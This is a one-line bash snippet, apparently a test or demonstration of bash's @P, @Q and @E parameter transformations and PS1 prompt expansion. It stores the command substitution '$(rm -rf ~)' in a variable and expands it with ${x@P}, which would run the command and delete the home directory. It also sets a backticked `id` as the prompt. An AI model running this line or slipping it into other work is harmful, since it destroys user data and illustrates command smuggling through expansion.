x='$(rm -rf ~)'; echo ${x@P}; PS1='`id`' bash -i; echo ${y@Q} ${z@E}
